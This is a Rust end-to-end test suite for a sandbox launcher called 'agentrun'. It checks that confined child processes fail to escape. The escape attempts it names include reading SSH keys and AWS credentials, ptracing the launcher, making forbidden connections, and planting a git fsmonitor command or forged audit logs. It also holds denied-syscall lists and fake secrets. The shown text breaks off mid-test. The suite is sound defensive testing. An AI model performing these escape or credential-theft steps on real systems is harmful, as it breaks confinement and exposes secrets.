//! End-to-end confinement tests (issue 3): the real binary, real child programs trying to
//! escape, as root and as an unprivileged user (`setpriv --reuid 65534`).
//!
//! Each attempt asserts the specific errno the child saw and, from the outside, that nothing
//! happened: the listeners accepted nothing, no marker file appeared, the launcher still runs.
//! A test that needs a kernel feature this kernel lacks says why and skips; with `CI=true`
//! such a skip fails.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::harness::*;
use std::collections::HashMap;
use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

const PYTHON: &str = "/usr/bin/python3";
const NOBODY: u32 = 65534;
/// Sits in the launcher's environment, never declared: the child must not get at it.
const LAUNCHER_ONLY: &str = "hvs.launcher-only-Qm7Zk2Lp9Xw4Rt6Yb1Nc";
const DECLARED: &str = "sk-declared-Vb8Nm3Kq5Wz1Xc7Lp2Rt";

/// The kernel's Landlock ABI and whether seccomp is on, asked of the kernel itself (not of
/// the binary under test, whose detection could be what broke), and cross-checked against
/// `agentrun check --json`.
fn kernel() -> (u64, bool) {
    let abi = kernel_landlock_abi();
    let seccomp = std::fs::read_to_string("/proc/self/status")
        .map(|t| t.lines().any(|l| l.starts_with("Seccomp:")))
        .unwrap_or(false);
    let s = scratch();
    std::fs::create_dir_all(s.path().join("work")).unwrap();
    s.profile("k", "version = 1\n");
    let p = s.path().join("profiles/k.toml");
    let j = check_json(&s, As::Root, &s.path().join("work"), p.to_str().unwrap());
    assert_eq!(
        j["sandbox"]["landlock_abi"].as_u64().unwrap_or(0),
        abi,
        "agentrun misreads the Landlock ABI"
    );
    (abi, seccomp)
}

#[allow(unsafe_code)]
fn kernel_landlock_abi() -> u64 {
    const LANDLOCK_CREATE_RULESET_VERSION: libc::c_uint = 1;
    // SAFETY: landlock_create_ruleset with a null attr, size 0 and the VERSION flag only
    // returns the ABI number (or an error); it takes no pointer it would dereference.
    let r = unsafe {
        libc::syscall(
            libc::SYS_landlock_create_ruleset,
            std::ptr::null::<u8>(),
            0usize,
            LANDLOCK_CREATE_RULESET_VERSION,
        )
    };
    if r < 0 { 0 } else { r as u64 }
}

/// Landlock ABI 6 (signal and abstract-socket scoping) and seccomp: what these tests check.
fn kernel_ready(test: &str) -> bool {
    let (abi, seccomp) = kernel();
    require(
        test,
        abi >= 6 && seccomp,
        &format!("needs Landlock ABI 6 and seccomp; this kernel has ABI {abi}, seccomp {seccomp}"),
    )
}

/// Whether the test can run as `who` (switching users needs root).
fn can_run_as(test: &str, who: As) -> bool {
    who == As::Root
        || require(
            test,
            is_root(),
            &format!("switching to uid {NOBODY} needs root"),
        )
}

/// A scratch directory readable by others; [`Scratch::hand_to`] gives it to nobody.
fn scratch() -> Scratch {
    let s = Scratch::new();
    std::fs::set_permissions(s.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    s
}

/// `check --json` as `who` (landlock_abi, pid_namespace, ...).
fn check_json(s: &Scratch, who: As, cwd: &Path, profile: &str) -> serde_json::Value {
    let o = s
        .agentrun()
        .user(who)
        .cwd(cwd)
        .args(["check", "--profile", profile, "--json"])
        .run();
    serde_json::from_str(&o.stdout).unwrap_or_else(|e| panic!("check --json: {e}: {o:?}"))
}

fn results(text: &str) -> HashMap<String, String> {
    text.lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// The escape attempts, one `name=result` line each (`ok` or the errno name). The launcher's
/// pid comes from a file the test writes once agentrun runs (the child's own pids are its
/// PID namespace's).
const ESCAPES: &str = concat!(
    include_str!("../fixtures/attempt.py"),
    include_str!("../fixtures/escape.py")
);

fn escapes(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let s = scratch();
    let home = s.path().join("home");
    s.file("home/.ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\n");
    s.file(
        "home/.aws/credentials",
        "[default]\naws_secret_access_key=x\n",
    );
    s.file("home/.bashrc", "# rc\n");
    let work = s.path().join("work");
    let outside = s.path().join("outside");
    std::fs::create_dir_all(&work).unwrap();
    let ro = s.file("outside/ro.txt", "keep me");
    let script = s.file("work/run.sh", "#!/bin/sh\necho ran\n");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();

    let allowed = TcpListener::bind("127.0.0.1:0").unwrap();
    let denied = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    for l in [&allowed, &denied] {
        l.set_nonblocking(true).unwrap();
    }
    udp.set_nonblocking(true).unwrap();
    let unix_path = outside.join("agent.sock");
    let unix = UnixListener::bind(&unix_path).unwrap();
    unix.set_nonblocking(true).unwrap();
    let abstract_name = marker("abstract");
    let abs = {
        use std::os::linux::net::SocketAddrExt;
        let a =
            std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
        UnixListener::bind_addr(&a).unwrap()
    };
    abs.set_nonblocking(true).unwrap();
    let port = |l: &TcpListener| l.local_addr().unwrap().port();

    let nr = [
        ("NR_unshare", libc::SYS_unshare),
        ("NR_mount", libc::SYS_mount),
        ("NR_bpf", libc::SYS_bpf),
        ("NR_io_uring_setup", libc::SYS_io_uring_setup),
        ("NR_keyctl", libc::SYS_keyctl),
        ("NR_ptrace", libc::SYS_ptrace),
        ("NR_process_vm_readv", libc::SYS_process_vm_readv),
        ("NR_modify_ldt", libc::SYS_modify_ldt),
    ];
    let mut set: Vec<String> = nr.iter().map(|(k, v)| format!("{k} = \"{v}\"")).collect();
    for (k, v) in [
        ("WORK", work.display().to_string()),
        ("OUTSIDE", outside.display().to_string()),
        ("ALLOWED_PORT", port(&allowed).to_string()),
        ("DENIED_PORT", port(&denied).to_string()),
        ("UDP_PORT", udp.local_addr().unwrap().port().to_string()),
        ("UNIX_PATH", unix_path.display().to_string()),
        ("ABSTRACT", abstract_name.clone()),
    ] {
        set.push(format!("{k} = \"{v}\""));
    }
    // The operator's log (the harness's AGENTRUN_AUDIT_LOG) overrides the profile's.
    let audit = s.path().join("audit.jsonl");
    let profile = s.file(
        "profiles/esc.toml",
        &format!(
            r#"version = 1
[env]
pass = ["PATH", "HOME", "LANG"]
set = {{ {} }}
[secrets]
MY_TOKEN = "env:SRC_TOKEN"
[sandbox]
read = ["~", "{}", "/proc"]
write = ["{}"]
exec = ["/usr", "/bin", "/lib", "/lib64"]
connect = [{}]
[audit]
log = "{}"
"#,
            set.join(", "),
            outside.display(),
            work.display(),
            port(&allowed),
            audit.display()
        ),
    );
    s.hand_to(who);
    let mut s = s;
    s.env.insert("SRC_TOKEN".into(), DECLARED.into());
    s.env.insert("VAULT_TOKEN".into(), LAUNCHER_ONLY.into());

    let profile_s = profile.to_str().unwrap();
    let mut child = s
        .agentrun()
        .user(who)
        .cwd(&work)
        .args(["--profile", profile_s, "--", PYTHON, "-c", ESCAPES])
        .spawn();
    let launcher = child.id() as i32;
    let pidfile = work.join("launcher.pid");
    std::fs::write(&pidfile, launcher.to_string()).unwrap();
    let mut out = child.stdout.take().unwrap();
    let text = read_until(&mut out, Duration::from_secs(30), |t| t.contains("done=1"));
    // From the outside: the launcher still runs, untraced and unstopped.
    let status = std::fs::read_to_string(format!("/proc/{launcher}/status")).unwrap_or_default();
    let still_running =
        alive(launcher) && status.contains("TracerPid:\t0\n") && !status.contains("State:\tT");
    std::fs::write(work.join("stop"), "").unwrap();
    let mut rest = String::new();
    out.read_to_string(&mut rest).unwrap();
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    let code = child.wait().unwrap().code();
    let got = results(&text);
    assert_eq!(
        got.get("done").map(String::as_str),
        Some("1"),
        "{tag}: child did not finish: {text}\n{stderr}"
    );
    assert!(still_running, "{tag}: the launcher was disturbed: {status}");
    assert_eq!(code, Some(0), "{tag}: {stderr}");

    let events = read_events(&audit);
    let sandbox = events.iter().find(|e| e["event"] == "sandbox").unwrap();
    let pid_ns = sandbox["pid_namespace"]["available"] == true;
    // In its own PID namespace the child cannot even name the launcher; outside one,
    // Landlock's signal scope refuses.
    let kill_launcher = if pid_ns { "ESRCH" } else { "EPERM" };
    let expect = [
        ("launcher_environ", "EACCES"),
        ("launcher_mem", "EACCES"),
        ("launcher_maps", "EACCES"),
        ("launcher_fd_link", "EACCES"),
        ("launcher_fd_open", "EACCES"),
        // Root owns the non-dumpable launcher's /proc entries, so a root child (no
        // capabilities) may list the fd *numbers*; what they point to stays closed.
        (
            "launcher_fds",
            if who == As::Root { "ok" } else { "EACCES" },
        ),
        ("launcher_ptrace", "EPERM"),
        ("launcher_vm_readv", "EPERM"),
        ("launcher_kill", kill_launcher),
        ("parent_kill", "EPERM"),
        ("parent_ptrace", "EPERM"),
        ("read_ssh", "EACCES"),
        ("read_aws", "EACCES"),
        ("read_bashrc", "ok"),
        ("write_work", "ok"),
        ("write_outside", "EACCES"),
        ("write_home", "EACCES"),
        ("symlink_create", "ok"),
        ("symlink_write", "EACCES"),
        ("hardlink_out", "EXDEV"),
        ("truncate_ro", "EACCES"),
        ("open_trunc_ro", "EACCES"),
        ("exec_from_work", "EACCES"),
        ("tcp_denied", "EACCES"),
        ("tcp_allowed", "ok"),
        ("mptcp_denied", "EPERM"),
        // TCP Fast Open connects without connect(): seccomp refuses the flag and the
        // socket option; listen() without bind ports would autobind one.
        ("tfo_sendto", "EPERM"),
        ("tfo_sendmsg", "EPERM"),
        ("tfo_connect_opt", "EPERM"),
        ("listen_autobind", "EPERM"),
        ("modify_ldt", "EPERM"),
        ("udp", "EPERM"),
        ("unix_abstract", "EPERM"),
        ("unix_path", "EPERM"),
        ("socketpair", "ok"),
        ("unshare", "EPERM"),
        ("mount", "EPERM"),
        ("bpf", "EPERM"),
        ("io_uring_setup", "EPERM"),
        ("keyctl", "EPERM"),
        ("tiocsti", "EPERM"),
        ("CapInh", "0000000000000000"),
        ("CapPrm", "0000000000000000"),
        ("CapEff", "0000000000000000"),
        ("CapBnd", "0000000000000000"),
        ("CapAmb", "0000000000000000"),
        ("NoNewPrivs", "1"),
        ("Seccomp", "2"),
    ];
    let mut wrong = Vec::new();
    for (k, v) in expect {
        if got.get(k).map(String::as_str) != Some(v) {
            wrong.push(format!("{k}: expected {v}, got {:?}", got.get(k)));
        }
    }
    assert!(wrong.is_empty(), "{tag}:\n{}\n{stderr}", wrong.join("\n"));
    if pid_ns {
        assert_eq!(got.get("ppid").map(String::as_str), Some("1"), "{tag}");
    }

    // From the outside: nothing happened.
    assert!(!text.contains(LAUNCHER_ONLY) && !rest.contains(LAUNCHER_ONLY));
    assert!(denied.accept().is_err(), "{tag}: the denied port accepted");
    assert!(
        allowed.accept().is_ok(),
        "{tag}: the allowed port saw nothing"
    );
    assert!(
        udp.recv(&mut [0u8; 8]).is_err(),
        "{tag}: a UDP datagram arrived"
    );
    assert!(unix.accept().is_err(), "{tag}: the unix socket accepted");
    assert!(abs.accept().is_err(), "{tag}: the abstract socket accepted");
    assert_eq!(std::fs::read_to_string(&ro).unwrap(), "keep me");
    for p in [
        outside.join("marker"),
        outside.join("marker_sym"),
        home.join("marker"),
    ] {
        assert!(!p.exists(), "{tag}: {} appeared", p.display());
    }
    assert_eq!(
        std::fs::read_to_string(work.join("ok.txt")).unwrap(),
        "pwned"
    );
}

#[test]
fn escapes_fail_as_root() {
    escapes(As::Root, "escapes_fail_as_root");
}

#[test]
fn escapes_fail_as_nobody() {
    escapes(As::Nobody, "escapes_fail_as_nobody");
}

/// With `unix_sockets = true` pathname sockets open up (Landlock mediates them only from ABI
/// 9), but abstract sockets of processes outside the sandbox stay scoped.
#[test]
fn abstract_sockets_stay_scoped_with_unix_sockets() {
    let tag = "abstract_sockets_stay_scoped_with_unix_sockets";
    for who in [As::Root, As::Nobody] {
        if !can_run_as(tag, who) || !kernel_ready(tag) {
            return;
        }
        let s = scratch();
        let work = s.path().join("work");
        std::fs::create_dir_all(&work).unwrap();
        let name = marker("abs");
        let abs = {
            use std::os::linux::net::SocketAddrExt;
            let a = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
            UnixListener::bind_addr(&a).unwrap()
        };
        abs.set_nonblocking(true).unwrap();
        let path = work.join("ok.sock");
        let listener = UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        s.profile(
            "u",
            // A port, so that the child shares the host's network namespace and Landlock's
            // scope is what refuses (without ports the host's abstract sockets do not even
            // exist in the child's own namespace).
            &format!("version = 1\n[sandbox]\nwrite = [\".\"]\nunix_sockets = true\nconnect = [9]\n[env]\nset = {{ NAME = \"{name}\" }}\n"),
        );
        s.hand_to(who);
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
        let code = r#"
import errno, os, socket
for k, a in (("abstract", "\0" + os.environ["NAME"]), ("path", "ok.sock")):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(a); print(k + "=ok")
    except OSError as e:
        print(k + "=" + errno.errorcode[e.errno])
"#;
        let p = s.path().join("profiles/u.toml");
        let o = s
            .agentrun()
            .user(who)
            .cwd(&work)
            .args(["-p", p.to_str().unwrap(), "--", PYTHON, "-c", code])
            .run();
        let got = results(&o.stdout);
        assert_eq!(
            got.get("abstract").map(String::as_str),
            Some("EPERM"),
            "{who:?} {o:?}"
        );
        assert_eq!(
            got.get("path").map(String::as_str),
            Some("ok"),
            "{who:?} {o:?}"
        );
        assert!(
            abs.accept().is_err(),
            "{who:?}: the abstract socket accepted"
        );
        assert!(
            listener.accept().is_ok(),
            "{who:?}: the allowed socket saw nothing"
        );
    }
}

/// `--unconfined` really is: no seccomp, no Landlock, and the audit log says so;
/// `--best-effort` runs and records its mode.
#[test]
fn unconfined_and_best_effort_are_recorded() {
    let s = scratch();
    let work = s.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    s.profile("p", "version = 1\n");
    let p = s.path().join("profiles/p.toml");
    let p = p.to_str().unwrap();
    let status = "grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status";
    let o = s
        .agentrun()
        .cwd(&work)
        .args(["-p", p, "--unconfined", "--", "sh", "-c", status])
        .run();
    assert_eq!(o.code, 0, "{o:?}");
    assert!(o.stdout.contains("Seccomp:\t0"), "{o:?}");
    let o2 = s
        .agentrun()
        .cwd(&work)
        .args(["-p", p, "--best-effort", "--", "sh", "-c", status])
        .run();
    assert_eq!(o2.code, 0, "{o2:?}");
    assert!(o2.stdout.contains("Seccomp:\t2"), "{o2:?}");
    // The operator's log (the harness's AGENTRUN_AUDIT_LOG) overrides the profile's.
    let events = read_events(&s.path().join("audit.jsonl"));
    let modes: Vec<&str> = events
        .iter()
        .filter(|e| e["event"] == "sandbox")
        .map(|e| e["mode"].as_str().unwrap())
        .collect();
    assert_eq!(modes, ["unconfined", "best-effort"], "{events:?}");
    let ops: Vec<(bool, bool)> = events
        .iter()
        .filter(|e| e["event"] == "start")
        .map(|e| {
            (
                e["operator"]["unconfined"] == true,
                e["operator"]["best_effort"] == true,
            )
        })
        .collect();
    assert_eq!(ops, [(true, false), (false, true)]);
    let unconfined = events.iter().find(|e| e["event"] == "sandbox").unwrap();
    assert_eq!(unconfined["seccomp"], "not");
    assert_eq!(unconfined["fs"], "not");
}

/// `explain --json` shows the rules and the syscalls a profile gives back.
#[test]
fn explain_shows_rules_and_given_back_syscalls() {
    let s = scratch();
    let work = s.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    s.profile(
        "e",
        "version = 1\n[sandbox]\nread = [\"/etc\"]\nwrite = [\".\"]\nconnect = [443]\nallow_syscalls = [\"ptrace\"]\n",
    );
    let p = s.path().join("profiles/e.toml");
    let o = s
        .agentrun()
        .cwd(&work)
        .args(["explain", "-p", p.to_str().unwrap(), "--json"])
        .run();
    assert_eq!(o.code, 0, "{o:?}");
    let j: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
    let sb = &j["sandbox"];
    let text = sb.to_string();
    assert!(text.contains("\"/etc\"") && text.contains("443"), "{text}");
    assert!(
        text.contains("ptrace"),
        "the given-back syscall is shown: {text}"
    );
    let denied: Vec<&str> = sb["denied_syscalls"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(!denied.contains(&"ptrace"), "{denied:?}");
    for d in [
        "process_vm_readv",
        "bpf",
        "mount",
        "unshare",
        "keyctl",
        "io_uring_setup",
    ] {
        assert!(denied.contains(&d), "{d} missing from {denied:?}");
    }
}

/// `check --json` reports the Landlock ABI and PID-namespace availability, for each user.
#[test]
fn check_reports_abi_and_pid_namespace() {
    for who in [As::Root, As::Nobody] {
        if !can_run_as("check_reports_abi_and_pid_namespace", who) {
            return;
        }
        let s = scratch();
        let work = s.path().join("work");
        std::fs::create_dir_all(&work).unwrap();
        s.profile("c", "version = 1\n");
        s.hand_to(who);
        let p = s.path().join("profiles/c.toml");
        let j = check_json(&s, who, &work, p.to_str().unwrap());
        let sb = &j["sandbox"];
        assert!(sb["landlock_abi"].as_u64().is_some(), "{who:?} {j}");
        assert!(sb["pid_namespace"]["available"].is_boolean(), "{j}");
        assert!(
            sb["pid_namespace"]["how"].as_str().unwrap().len() > 5,
            "{j}"
        );
        if who == As::Root {
            assert_eq!(sb["pid_namespace"]["available"], true, "{j}");
        }
    }
}

/// Ordinary programs run under the default policy: sh, python3, git, node.
#[test]
fn ordinary_programs_run_under_the_default_policy() {
    let tag = "ordinary_programs_run_under_the_default_policy";
    for who in [As::Root, As::Nobody] {
        if !can_run_as(tag, who) || !kernel_ready(tag) {
            return;
        }
        let s = scratch();
        let work = s.path().join("work");
        std::fs::create_dir_all(&work).unwrap();
        let git = Command::new("git")
            .args(["init", "-q"])
            .current_dir(&work)
            .status()
            .unwrap();
        assert!(git.success());
        s.file("work/README", "hello\n");
        s.profile("d", "version = 1\n");
        s.hand_to(who);
        let p = s.path().join("profiles/d.toml");
        let p = p.to_str().unwrap();
        let mut cases: Vec<(&str, Vec<&str>, &str)> = vec![
            (
                "sh",
                vec!["sh", "-c", "echo sh-ok > out.txt && cat out.txt"],
                "sh-ok",
            ),
            (
                "python3",
                vec![PYTHON, "-c", "import json, ssl, sqlite3; print('py-ok')"],
                "py-ok",
            ),
            ("git", vec!["git", "status", "--short"], "?? README"),
        ];
        if Path::new("/usr/bin/node").exists() {
            cases.push((
                "node",
                vec!["/usr/bin/node", "-e", "console.log('node-ok')"],
                "node-ok",
            ));
        } else {
            eprintln!("SKIP {tag}: node: /usr/bin/node not installed");
        }
        for (name, argv, want) in cases {
            let mut args = vec!["-p", p, "--"];
            args.extend(argv);
            let o = s.agentrun().user(who).cwd(&work).args(&args).run();
            assert_eq!(o.code, 0, "{who:?} {name}: {o:?}");
            assert!(o.stdout.contains(want), "{who:?} {name}: {o:?}");
        }
    }
}

/// No survivors: with agentrun SIGKILLed, a setsid grandchild and a double-forked daemon
/// die too (the PID namespace's init dies, and the kernel kills the rest).
#[test]
fn sigkilled_launcher_leaves_no_survivors() {
    let tag = "sigkilled_launcher_leaves_no_survivors";
    for who in [As::Root, As::Nobody] {
        if !can_run_as(tag, who) {
            return;
        }
        let s = scratch();
        let work = s.path().join("work");
        std::fs::create_dir_all(work.join("up")).unwrap();
        s.profile("n", "version = 1\n");
        s.hand_to(who);
        let p = s.path().join("profiles/n.toml");
        let j = check_json(&s, who, &work, p.to_str().unwrap());
        if !require(
            tag,
            j["sandbox"]["pid_namespace"]["available"] == true,
            &format!(
                "no PID namespace as {who:?}: {}",
                j["sandbox"]["pid_namespace"]["how"]
            ),
        ) {
            continue;
        }
        let m = marker("survivor");
        // A setsid grandchild, and a daemon that double-forks away from its parent.
        let script = format!(
            "setsid sh -c 'touch up/1; sleep 300; : {m}' >/dev/null 2>&1 & \
             sh -c \"sh -c 'touch up/2; sleep 300; : {m}' >/dev/null 2>&1 &\" & \
             while [ ! -e up/1 ] || [ ! -e up/2 ]; do sleep 0.01; done; echo ready; sleep 300"
        );
        let mut child = s
            .agentrun()
            .user(who)
            .cwd(&work)
            .args(["-p", p.to_str().unwrap(), "--", "sh", "-c", &script])
            .spawn();
        let mut out = child.stdout.take().unwrap();
        let got = read_until(&mut out, Duration::from_secs(10), |t| t.contains("ready"));
        assert!(got.contains("ready"), "{who:?}: {got}");
        let before = pids_with(&format!(": {m}"));
        assert!(before.len() >= 2, "{who:?}: {before:?}");
        child.kill().unwrap();
        child.wait().unwrap();
        assert!(
            eventually(Duration::from_secs(5), || pids_with(&format!(": {m}"))
                .is_empty()),
            "{who:?}: survivors {:?}",
            pids_with(&format!(": {m}"))
        );
    }
}

/// Inside the PID namespace signals still reach the command and exit codes stay as without.
#[test]
fn signals_and_exit_codes_through_the_pid_namespace() {
    for who in [As::Root, As::Nobody] {
        if !can_run_as("signals_and_exit_codes_through_the_pid_namespace", who) {
            return;
        }
        let s = scratch();
        let work = s.path().join("work");
        std::fs::create_dir_all(&work).unwrap();
        s.profile("x", "version = 1\n");
        s.hand_to(who);
        let p = s.path().join("profiles/x.toml");
        let p = p.to_str().unwrap();
        let code = |script: &str| {
            s.agentrun()
                .user(who)
                .cwd(&work)
                .args(["-p", p, "--", "sh", "-c", script])
                .run()
                .code
        };
        assert_eq!(code("exit 7"), 7, "{who:?}");
        assert_eq!(code("kill -TERM $$"), 143, "{who:?}");
        assert_eq!(code("kill -KILL $$"), 137, "{who:?}");
        assert_eq!(code("kill -SEGV $$"), 139, "{who:?}");
        let o = s
            .agentrun()
            .user(who)
            .cwd(&work)
            .args(["-p", p, "--", "./nope"])
            .run();
        assert_eq!(o.code, 127, "{who:?} {o:?}");

        let mut child = s.agentrun().user(who).cwd(&work).args(["-p", p, "--", "sh", "-c", "trap 'echo got-USR1' USR1; trap 'echo got-TERM; exit 9' TERM; echo ready; while :; do sleep 0.05; done"]).spawn();
        let mut out = child.stdout.take().unwrap();
        read_until(&mut out, Duration::from_secs(5), |t| t.contains("ready"));
        send(child.id(), "USR1");
        let got = read_until(&mut out, Duration::from_secs(5), |t| t.contains("got-USR1"));
        assert!(got.contains("got-USR1"), "{who:?}: {got}");
        send(child.id(), "TERM");
        let got = read_until(&mut out, Duration::from_secs(5), |t| t.contains("got-TERM"));
        assert!(got.contains("got-TERM"), "{who:?}: {got}");
        assert_eq!(child.wait().unwrap().code(), Some(9), "{who:?}");
    }
}

// --- Issue 9: implicit connects, and a run that sets up the next one ---------------------

/// What a child without network ports tries: every way out to a listener on the host's
/// loopback, and a listener of its own.
const NO_NETWORK: &str = concat!(
    include_str!("../fixtures/attempt.py"),
    include_str!("../fixtures/no_network.py")
);

fn no_ports_no_network(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let s = scratch();
    let work = s.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let host = TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    let audit = s.path().join("audit/audit.jsonl");
    let profile = s.file(
        "profiles/nonet.toml",
        &format!(
            "version = 1\n[env]\npass = [\"PATH\"]\nset = {{ HOST_PORT = \"{port}\", WORK = \"{}\" }}\n",
            work.display()
        ),
    );
    s.hand_to(who);
    let o = s
        .agentrun()
        .user(who)
        .cwd(&work)
        .args([
            "--audit-log",
            audit.to_str().unwrap(),
            "--profile",
            profile.to_str().unwrap(),
            "--",
            PYTHON,
            "-c",
            NO_NETWORK,
        ])
        .run();
    let got = results(&o.stdout);
    assert_eq!(o.code, 0, "{tag}: {o:?}");
    // Landlock refuses the port and seccomp the Fast Open flag, as in any policy; beneath
    // them, the child's network namespace holds nothing but its own loopback.
    for (k, v) in [
        ("tcp", "EACCES"),
        ("tfo_sendto", "EPERM"),
        ("tfo_sendmsg", "EPERM"),
        ("ifaces", "lo"),
    ] {
        assert_eq!(got.get(k).map(String::as_str), Some(v), "{tag}: {k}: {o:?}");
    }
    // From the outside: the host's listener saw nothing.
    assert!(
        host.accept().is_err(),
        "{tag}: the host's listener accepted"
    );
    let events = read_events(&audit);
    let sandbox = events.iter().find(|e| e["event"] == "sandbox").unwrap();
    assert_eq!(
        sandbox["isolation"]["own_network"], true,
        "{tag}: {sandbox}"
    );
}

#[test]
fn no_ports_means_no_network_as_root() {
    no_ports_no_network(As::Root, "no_ports_means_no_network_as_root");
}

#[test]
fn no_ports_means_no_network_as_nobody() {
    no_ports_no_network(As::Nobody, "no_ports_means_no_network_as_nobody");
}

/// Run 1's child tries to set up run 2: rewrite or plant a profile, rewrite the `.env` and a
/// `file:` source (or swap it for a link to a key), move a directory holding a source away
/// and recreate it, forge or cut the audit log, and plant a `core.fsmonitor` command in
/// `.git/config`. Its own files in the working directory stay its to change.
const PERSIST: &str = concat!(
    include_str!("../fixtures/attempt.py"),
    include_str!("../fixtures/persist.py")
);

fn later_runs_cannot_be_set_up(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let s = scratch();
    let work = s.path().join("work");
    s.file(
        "home/.ssh/id_rsa",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nkey\n",
    );
    let token = s.file("work/sub/deep/token.txt", "tok-declared-value-1234");
    let env = s.file("work/.env", "API_KEY=sk-dotenv-value-5678\n");
    let init = Command::new("git")
        .args(["init", "-q", work.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(init.status.success(), "{tag}: git init: {init:?}");
    std::fs::create_dir_all(work.join(".git/hooks")).unwrap();
    let profile = s.file(
        "work/profiles/p.toml",
        "version = 1\n[env]\npass = [\"PATH\", \"HOME\"]\n[secrets]\nTOKEN = \"file:sub/deep/token.txt\"\nAPI_KEY = \"dotenv:.env#API_KEY\"\n",
    );
    let audit = work.join("audit/audit.jsonl");
    s.hand_to(who);
    let before: Vec<(PathBuf, String)> = [&profile, &env, &token, &work.join(".git/config")]
        .iter()
        .map(|p| ((*p).clone(), std::fs::read_to_string(p).unwrap()))
        .collect();
    let args = [
        "--audit-log",
        audit.to_str().unwrap(),
        "--profile",
        "p",
        "--",
        PYTHON,
        "-c",
        PERSIST,
    ];
    let first = s.agentrun().user(who).cwd(&work).args(args).run();
    assert_eq!(first.code, 0, "{tag}: {first:?}");
    let got = results(&first.stdout);
    let expect = [
        ("profile_append", "EROFS"),
        ("profile_plant", "EROFS"),
        ("profiles_rename", "EBUSY"),
        ("dotenv_rewrite", "EROFS"),
        ("dotenv_unlink", "EBUSY"),
        ("token_swap", "EBUSY"),
        ("token_dir_move", "EBUSY"),
        ("deep_rename", "EBUSY"),
        ("git_config", "EROFS"),
        ("git_hook", "EROFS"),
        // The log itself is masked (an empty device: the child cannot even hold its lock);
        // its directory is read-only.
        ("audit_truncate", "EINVAL"),
        ("audit_forge", "EROFS"),
        ("audit_rename", "EBUSY"),
        ("own_file", "ok"),
        ("own_dir", "ok"),
    ];
    let mut wrong = Vec::new();
    for (k, v) in expect {
        if got.get(k).map(String::as_str) != Some(v) {
            wrong.push(format!("{k}: expected {v}, got {:?}", got.get(k)));
        }
    }
    assert!(wrong.is_empty(), "{tag}:\n{}\n{first:?}", wrong.join("\n"));
    assert!(
        got.get("own_list").is_some_and(|v| v.starts_with("ok:")),
        "{tag}"
    );
    // From the outside: every input is as it was, nothing was planted, the log is whole.
    for (p, text) in &before {
        assert_eq!(
            &std::fs::read_to_string(p).unwrap(),
            text,
            "{tag}: {}",
            p.display()
        );
        assert!(!p.is_symlink(), "{tag}: {} became a link", p.display());
    }
    for p in [
        "profiles/evil.toml",
        "profiles.old",
        "sub.old",
        "audit.old",
        "audit/forged.jsonl",
    ] {
        assert!(!work.join(p).exists(), "{tag}: {p} appeared");
    }
    let events = read_events(&audit);
    assert!(
        events.iter().any(|e| e["event"] == "exit"),
        "{tag}: the log was cut"
    );
    let sandbox = events.iter().find(|e| e["event"] == "sandbox").unwrap();
    let ro: Vec<String> = sandbox["isolation"]["read_only"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["path"].as_str().unwrap().to_string())
        .collect();
    assert!(ro.iter().any(|p| p.ends_with("/.git")), "{tag}: {ro:?}");
    assert_eq!(
        std::fs::read_to_string(work.join("notes.txt")).unwrap(),
        "mine"
    );
    // Run 2 reads what run 1 found, and git runs no planted command.
    let second = s.agentrun().user(who).cwd(&work).args(args).run();
    assert!(
        second
            .stdout
            .contains("token=tok-declared-value-1234 key=sk-dotenv-value-5678")
            || second.stdout.contains("token=[REDACTED"),
        "{tag}: {second:?}"
    );
    let git = Command::new("git")
        .args(["-c", "safe.directory=*", "status", "--short"])
        .current_dir(&work)
        .output()
        .unwrap();
    assert!(git.status.success(), "{tag}: {git:?}");
    assert!(
        !work.join("pwned").exists(),
        "{tag}: git ran a planted command"
    );
}

#[test]
fn later_runs_cannot_be_set_up_as_root() {
    later_runs_cannot_be_set_up(As::Root, "later_runs_cannot_be_set_up_as_root");
}

#[test]
fn later_runs_cannot_be_set_up_as_nobody() {
    later_runs_cannot_be_set_up(As::Nobody, "later_runs_cannot_be_set_up_as_nobody");
}

/// Makes a memfd executable three ways; one `name=result` line each.
const MEMFD_EXEC: &str = concat!(
    include_str!("../fixtures/attempt.py"),
    include_str!("../fixtures/memfd_exec.py")
);

/// A memfd is a file with no path under any exec rule: as root the child's PID namespace has
/// `vm.memfd_noexec = 2`, so one cannot be made executable (unprivileged runs cannot set it:
/// see the threat model).
#[test]
fn memfd_cannot_be_executed_as_root() {
    let tag = "memfd_cannot_be_executed_as_root";
    if !can_run_as(tag, As::Nobody) || !kernel_ready(tag) {
        return;
    }
    if !require(
        tag,
        Path::new("/proc/sys/vm/memfd_noexec").exists(),
